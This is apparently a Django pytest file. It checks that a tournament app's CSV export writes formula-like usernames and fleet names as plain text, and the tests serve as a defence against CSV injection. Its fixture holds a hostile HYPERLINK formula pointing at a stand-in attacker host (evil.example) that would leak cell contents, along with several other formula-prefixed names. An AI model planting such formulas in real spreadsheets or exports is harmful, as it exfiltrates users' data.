"""The event CSV export writes fleet names and usernames a spreadsheet would run as formulas as text."""

import csv
import io
from io import StringIO

import pytest
from django.core.management import call_command
from django.urls import reverse

from accounts.csv_safe import FORMULA_STARTS
from games.attack_wing.results import MatchResult
from tests.accounts.factories import PlayerFactory
from tests.tournaments.factories import EventFactory
from tournaments.models import Match
from tournaments.services import event_start, result_enter, round_pair_next

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'


@pytest.fixture
def hostile_names(enter, make_fleet):
    """Players called ``+cmd``, ``-sum``, ``@SUM`` and ``=1``; one fleet named a HYPERLINK formula."""
    event = EventFactory(name="Spreadsheet Cup")
    for number, username in enumerate(("+cmd", "-sum", "@SUM", "=1")):
        registration = enter(event, player=PlayerFactory(username=username))
        if number == 0:
            fleet = registration.fleet_version.fleet
            type(fleet).objects.filter(pk=fleet.pk).update(name=HYPERLINK)
    event_start(event=event)
    for match in Match.objects.filter(round=round_pair_next(event=event, by=event.organizer)):
        result_enter(match=match, by=event.organizer, result=MatchResult(1))
    return event


def assert_no_formula(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 1 + 4
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell
    cells = {cell for row in rows for cell in row}
    assert {"'" + HYPERLINK, "'+cmd", "'-sum", "'@SUM", "'=1"} <= cells
    return rows


def test_the_csv_export_page_writes_formulas_as_text(client, hostile_names):
    client.force_login(hostile_names.organizer)
    response = client.get(reverse("tournaments:export_csv", args=[hostile_names.pk]))
    assert response.status_code == 200
    assert_no_formula(response.content.decode())


def test_export_event_writes_formulas_as_text(hostile_names, tmp_path):
    path = tmp_path / "event.csv"
    call_command("export_event", str(hostile_names.pk), "--format", "csv", "--output", str(path), stderr=StringIO())
    with path.open(newline="", encoding="utf-8") as file:
        assert_no_formula(file.read())
